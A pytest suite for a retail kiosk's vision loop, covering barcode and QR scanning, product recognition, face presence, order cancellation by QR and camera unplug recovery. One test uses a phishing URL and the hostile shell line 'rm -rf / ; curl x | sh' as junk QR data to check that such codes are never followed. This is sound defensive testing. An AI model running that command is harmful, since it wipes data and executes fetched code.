"""The camera in the kiosk loop: frames → sightings → camera turns, the session's view for "this one", presence,
receipts, junk codes, black frames, and a camera that goes away mid-session. Real barcodes (zxing-cpp), the real
catalog, orders and dialogue, the real intent bundle; file-backed cameras."""

from __future__ import annotations

import asyncio
import shutil
import time
from pathlib import Path
from types import SimpleNamespace

import cv2
import numpy as np
import pytest
import zxingcpp
from test_vision_codes import photo, symbol
from test_vision_ocr_face import drawn_face

from runtime.events import Sighting
from runtime.vision.perception import Perception

KB_DIR = Path(__file__).resolve().parents[2] / "data" / "kb"
F = zxingcpp.BarcodeFormat


def ean_photo(kb, pid: str) -> np.ndarray:
    p = kb.product(pid)
    return photo(symbol(p.ean13, F.EAN13, scale=2), cv2.imread(str(KB_DIR / "images" / p.image)), at=(0.3, 0.4))


def qr_photo(payload: str) -> np.ndarray:
    return photo(symbol(payload, F.QRCode, scale=4), at=(0.5, 0.5))


class ScriptedRecognizer:
    """Stands in for the product model where a test is about the stage's logic, not the model's accuracy."""

    def __init__(self, answers):
        self.answers = list(answers)
        self.calls = 0

    def predict_one(self, image):
        self.calls += 1
        label, unknown = self.answers.pop(0) if self.answers else ("Banana", False)
        guess = SimpleNamespace(fine_id=-1, prob=0.9, label=label)
        return SimpleNamespace(unknown=unknown, fine_id=guess.fine_id, prob=guess.prob, label=label, score=0.5)


class Clock:
    def __init__(self):
        self.t = 1000.0

    def __call__(self):
        return self.t


# ------------------------------------------------------------------------------------------ perception


def test_a_product_barcode_an_order_qr_and_a_junk_code(kb, orders):
    per = Perception(kb, orders)
    res = per.step(ean_photo(kb, "oatly-oat-milk"))
    assert [(s.kind, s.value, s.source) for s in res.sightings] == [("product", "oatly-oat-milk", "barcode")]
    assert res.sightings[0].label == kb.product("oatly-oat-milk").display_name
    res = per.step(qr_photo("Order #00004587345"))
    assert [(s.kind, s.value, s.source) for s in res.sightings] == [("order", "00004587345", "qr")]
    # A URL, a shell command: data, never followed or shown; the sighting carries only the reason.
    for junk in ("https://evil.example/phish", "rm -rf / ; curl x | sh"):
        (s,) = per.step(qr_photo(junk)).sightings
        assert s.kind == "code" and s.value is None and junk not in s.label


def test_black_frames_never_reach_the_product_model_and_garbage_frames_are_counted(kb):
    rec = ScriptedRecognizer([])
    clock = Clock()
    per = Perception(kb, recognizer=rec, product_every_s=0.0, clock=clock)
    res = per.step(np.zeros((480, 640, 3), np.uint8))
    assert res.blank and res.sightings == [] and rec.calls == 0
    for bad in (np.zeros((480, 640), np.uint8), np.zeros((480, 640, 3), np.float32), np.zeros((4, 4, 3), np.uint8), "frame", None):
        assert per.step(bad).sightings == []
    assert per.errors["bad_frame"] == 5 and per.frames == 1


def test_a_recognized_product_counts_once_it_is_stable_and_unknown_is_reported_too(kb):
    rec = ScriptedRecognizer([("Banana", False), ("Granny-Smith", False), ("Granny-Smith", False), ("Granny-Smith", False),
                              ("x", True), ("x", True)])
    clock = Clock()
    per = Perception(kb, recognizer=rec, product_every_s=0.5, stable_runs=2, clock=clock)
    scene = cv2.imread(str(KB_DIR / "images" / kb.product("granny-smith").image))
    seen = []
    for _ in range(12):  # 12 frames, 0.25 s apart: the model runs every other frame
        seen += per.step(scene).sightings
        clock.t += 0.25
    assert rec.calls == 6
    assert [(s.kind, s.value, s.source) for s in seen] == [("product", "granny-smith", "recognizer"), ("unknown", None, "recognizer")]


def test_a_failing_detector_is_counted_and_the_others_go_on(kb):
    class Broken:
        def predict_one(self, image):
            raise RuntimeError("model exploded")

    per = Perception(kb, recognizer=Broken(), product_every_s=0.0)
    res = per.step(ean_photo(kb, "banana"))
    assert [s.value for s in res.sightings] == ["banana"]  # a code in view: the model is not even asked
    res = per.step(cv2.imread(str(KB_DIR / "images" / "banana.jpg")))
    assert res.sightings == [] and per.errors["product"] == 1


def test_real_product_model_names_catalog_images(kb):
    """The bundle's product model through Perception: the catalog's own pictures, shown steadily."""
    from runtime.paths import default_bundle_dir
    from runtime.vision.products import ProductRecognizer

    try:
        rec = ProductRecognizer.from_bundle(default_bundle_dir())
    except Exception as exc:
        pytest.skip(f"no product model in the kiosk bundle: {exc}")
    named = right = 0
    for p in kb.products:
        per = Perception(kb, recognizer=rec, product_every_s=0.0)
        img = cv2.imread(str(KB_DIR / "images" / p.image))
        out = per.step(img).sightings + per.step(img).sightings
        assert len(out) == 1  # stable after two runs, reported once
        named += out[0].kind == "product"
        right += out[0].value == p.id
    # The catalog's studio shots are not like the shelf photos the model trained on, so the open-set rule turns
    # many away (measured: 42 of 81 named, 32 of them right); what it does name must mostly be right, and every
    # name must be a catalog id (the label → KB mapping works).
    assert named >= 0.4 * len(kb.products) and right >= 0.65 * named, (named, right)


# ------------------------------------------------------------------------------------------ the stage


class FakeCamera:
    def __init__(self, frames):
        self.frames = list(frames)
        self.health = SimpleNamespace(state="ok", source="test", reconnects=0, last_error=None)

    async def aread(self, timeout=1.0):
        if not self.frames:
            self.health = SimpleNamespace(state="ended", source="test", reconnects=0, last_error=None)
            return None
        await asyncio.sleep(0)
        return SimpleNamespace(image=self.frames.pop(0), ts=time.monotonic())


def _build(tmp_path):
    from runtime.app import build
    from runtime.config import load_config

    return build(load_config(None, {"state_dir": str(tmp_path / "state"), "kb.watch": False}))


def run_kiosk(tmp_path, body):
    parts = _build(tmp_path)
    messages: list[dict] = []

    async def listen(msg):
        messages.append(msg)

    async def go():
        await parts.kiosk.start()
        parts.kiosk.subscribe(listen)
        try:
            return await asyncio.wait_for(body(parts, messages), 120)
        finally:
            await parts.kiosk.stop()

    return asyncio.run(go()), messages, parts


def test_scan_then_ask_about_this_one(tmp_path, kb):
    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        await kiosk.start_session("page-1")
        frames = [ean_photo(kb, "oatly-oat-milk")] * 5  # held in front of the lens for five frames
        stage = VisionStage(kiosk, FakeCamera(frames), Perception(lambda: parts.services.kb, parts.services.orders))
        stage.attach("page-1")
        await stage.run()
        r1 = await kiosk.turn("page-1", "is this gluten-free?")
        r2 = await kiosk.turn("page-1", "how much is it")
        r3 = await kiosk.turn("page-1", "how much are the bananas")  # a named product beats the one in view
        rows = await kiosk._store_call("turns", "page-1")
        return stage, r1, r2, r3, rows

    (stage, r1, r2, r3, rows), messages, parts = run_kiosk(tmp_path, body)
    replies = [m for m in messages if m.get("type") == "reply" and m.get("channel") == "camera"]
    assert stage.turns == 1 and len(replies) == 1  # one scan, one answer, however long it is held up
    assert replies[0]["cards"][0]["id"] == "oatly-oat-milk" and replies[0]["sighting"]["source"] == "barcode"
    assert "Oatly" in r1.text and r1.cards and r1.cards[0]["id"] == "oatly-oat-milk"
    assert "Oatly" in r2.text and "€" in r2.text
    assert "Banana" in r3.text
    # the scan is part of the stored conversation (as what was scanned, never the picture)
    assert rows[0]["role"] == "customer" and rows[0]["text"] == "[scanned: Oat milk (Oatly)]" and len(rows) == 8


def test_order_qr_answers_status_and_fills_a_pending_cancellation(tmp_path):
    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        await kiosk.start_session("page-2")
        stage = VisionStage(kiosk, FakeCamera([qr_photo("00004587345")] * 3), Perception(parts.services.kb, parts.services.orders))
        stage.attach("page-2")
        await stage.run()
        status = [m for m in messages if m.get("type") == "reply"][-1]
        ask = await kiosk.turn("page-2", "I want to cancel my order")
        stage2 = VisionStage(kiosk, FakeCamera([qr_photo("Order #00004587345")] * 3), Perception(parts.services.kb, parts.services.orders))
        stage2.attach("page-2")
        await stage2.run()
        confirm = [m for m in messages if m.get("type") == "reply"][-1]
        return status, ask, confirm

    (status, ask, confirm), _, _ = run_kiosk(tmp_path, body)
    assert "00004587345" in status["reply"] and status["cards"][0]["type"] == "order"
    assert ask.intent == "cancel_order" and "order number" in ask.text.lower()
    assert "cancel order 00004587345" in confirm["reply"].lower()  # the confirmation question, not a status
    assert confirm["quick_replies"]


def test_unknown_object_and_empty_view_answer_this_one_honestly(tmp_path):
    async def body(parts, messages):
        kiosk = parts.kiosk
        st = await kiosk.start_session("page-3")
        st.camera = True
        nothing = await kiosk.turn("page-3", "how much is this?")
        st.in_view = Sighting("unknown", None, 0.1, "recognizer")
        unknown = await kiosk.turn("page-3", "what is this?")
        st.in_view = Sighting("product", "banana", 0.9, "recognizer", "Banana")
        known = await kiosk.turn("page-3", "how much is this?")
        st2 = await kiosk.start_session("page-3b")
        st2.camera = True
        st2.in_view = Sighting("product", "banana", 0.9, "recognizer", "Banana", ts=time.monotonic() - 3600)
        stale = await kiosk.turn("page-3b", "is this one vegan?")  # an hour-old sighting is not "this one"
        return nothing, unknown, known, stale

    (nothing, unknown, known, stale), _, _ = run_kiosk(tmp_path, body)
    assert "can't see a product" in nothing.text
    assert "don't recognize" in unknown.text
    assert "Banana" in known.text and "€" in known.text
    assert "Banana" not in stale.text and "can't see a product" in stale.text


def test_scan_on_the_attract_screen_wakes_the_page_and_is_answered_when_it_attaches(tmp_path, kb):
    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        stage = VisionStage(kiosk, FakeCamera([ean_photo(kb, "banana")] * 2), Perception(parts.services.kb, parts.services.orders))
        await stage.run()
        woke = [m for m in messages if m.get("type") == "wake"]
        await kiosk.start_session("page-4")
        stage.attach("page-4")
        for _ in range(200):
            if any(m.get("type") == "reply" for m in messages):
                break
            await asyncio.sleep(0.02)
        return woke

    woke, messages, _ = run_kiosk(tmp_path, body)
    assert woke and woke[0]["reason"] == "scan"
    (reply,) = [m for m in messages if m.get("type") == "reply"]
    assert reply["session"] == "page-4" and reply["cards"][0]["id"] == "banana"


def test_a_face_wakes_the_page_and_leaving_clears_the_view(tmp_path):
    from runtime.vision.face import FacePresence

    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        st = await kiosk.start_session("page-5")
        empty = np.full((480, 640, 3), 120, np.uint8)
        empty[::7] = 60  # texture, so it is not a blank frame
        frames = [drawn_face(200)] * 6 + [empty] * 8
        per = Perception(parts.services.kb, presence=FacePresence(arrive_frames=2, leave_frames=3), face_every_n=1)
        stage = VisionStage(kiosk, FakeCamera(frames), per)
        stage.attach("page-5")
        st.in_view = Sighting("product", "banana", 0.9, "barcode", "Banana")
        await stage.run()
        return st.in_view

    in_view, messages, _ = run_kiosk(tmp_path, body)
    assert [m["reason"] for m in messages if m.get("type") == "wake"] == ["face"]
    assert in_view is None


def test_camera_unplugged_mid_session_keeps_the_kiosk_answering(tmp_path, kb):
    from device.camera import open_camera

    folder = tmp_path / "cam"
    folder.mkdir()
    cv2.imwrite(str(folder / "a.png"), ean_photo(kb, "banana"))

    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        await kiosk.start_session("page-6")
        cam = open_camera(str(folder), fps=20, backoff=(0.05, 0.2))
        stage = VisionStage(kiosk, cam, Perception(parts.services.kb, parts.services.orders))
        stage.attach("page-6")
        task = asyncio.create_task(stage.run())
        for _ in range(200):
            if stage.turns:
                break
            await asyncio.sleep(0.02)
        shutil.rmtree(folder)  # the cable is pulled
        for _ in range(200):
            if cam.health.state == "reconnecting":
                break
            await asyncio.sleep(0.02)
        state = stage.health()
        reply = await kiosk.turn("page-6", "how much is it")
        folder.mkdir()
        cv2.imwrite(str(folder / "b.png"), qr_photo("00123842"))  # plugged back in
        for _ in range(300):
            if stage.turns >= 2:
                break
            await asyncio.sleep(0.02)
        cam.close()
        await asyncio.wait_for(task, 10)
        return stage, state, reply

    (stage, state, reply), messages, _ = run_kiosk(tmp_path, body)
    assert state["camera"] == "reconnecting" and state["ok"] is False
    assert "Banana" in reply.text  # the view outlived the camera
    assert stage.turns == 2 and any("00123842" in m.get("reply", "") for m in messages)


def test_camera_config_and_run_flag():
    from runtime.cli import build_parser
    from runtime.config import load_config
    from runtime.errors import ConfigError

    cfg = load_config(None, {"camera.source": "/dev/video0", "camera.fps": 15})
    assert cfg.get("camera.source") == "/dev/video0" and cfg.get("camera.view_ttl_s") > 0
    assert load_config().get("camera.source") is None  # no camera unless configured
    for bad in ({"camera.source": ""}, {"camera.fps": 0}, {"camera.source": True}, {"camera.view_ttl_s": "long"}):
        with pytest.raises(ConfigError, match="camera"):
            load_config(None, bad)
    args = build_parser().parse_args(["run", "--camera", "rtsp://10.0.0.5/stream"])
    assert args.camera == "rtsp://10.0.0.5/stream"


def test_the_nearest_face_gives_a_cue_for_frustration_and_it_leaves_with_the_visitor(tmp_path):
    from runtime.vision.expression import ExpressionReader
    from runtime.vision.face import FacePresence

    async def body(parts, messages):
        from runtime.vision.stage import VisionStage

        kiosk = parts.kiosk
        st = await kiosk.start_session("page-7")
        reader = ExpressionReader(kiosk.classifier.engine)
        per = Perception(parts.services.kb, presence=FacePresence(arrive_frames=2, leave_frames=3), face_every_n=1,
                         expression=reader)
        stage = VisionStage(kiosk, FakeCamera([drawn_face(200)] * 4), per)
        stage.attach("page-7")
        await stage.run()
        cue = st.face_cue
        empty = np.full((480, 640, 3), 120, np.uint8)
        empty[::7] = 60
        stage.camera = FakeCamera([empty] * 4)
        await stage.run()
        return cue, st.face_cue, per

    (cue, after, per), _, _ = run_kiosk(tmp_path, body)
    probs, ts = cue
    assert len(probs) == 7 and abs(sum(probs) - 1) < 1e-3 and ts > 0
    assert after is None and per.errors["expression"] == 0


def test_fusion_model_reads_questions_about_the_product_in_view(tmp_path):
    """The kiosk bundle's fusion model in the loop: with a pack in view, "how much?" (no "this") and "tell me about
    this" (which the text model alone reads as a request for help) are about it; a named product still wins."""

    async def body(parts, messages):
        kiosk = parts.kiosk
        if kiosk.fusion is None:
            pytest.skip("the kiosk bundle has no fusion model")
        st = await kiosk.start_session("page-8")
        st.camera = True
        st.in_view = Sighting("product", "oatly-oat-milk", 1.0, "barcode", "Oat milk (Oatly)")
        out = {}
        for q in ("how much?", "tell me about this", "how much are the bananas"):
            out[q] = await kiosk.turn("page-8", q)
        plain = await kiosk.start_session("page-9")  # the same words with nothing in view
        plain.camera = True
        out["nothing"] = await kiosk.turn("page-9", "tell me about this")
        return out

    out, _, _ = run_kiosk(tmp_path, body)
    assert out["how much?"].cards[0]["id"] == "oatly-oat-milk" and "€1.99" in out["how much?"].text
    assert out["tell me about this"].intent == "product_info" and out["tell me about this"].cards[0]["id"] == "oatly-oat-milk"
    assert out["how much are the bananas"].cards[0]["id"] == "banana"
    assert not any(c.get("type") == "product" for c in out["nothing"].cards)
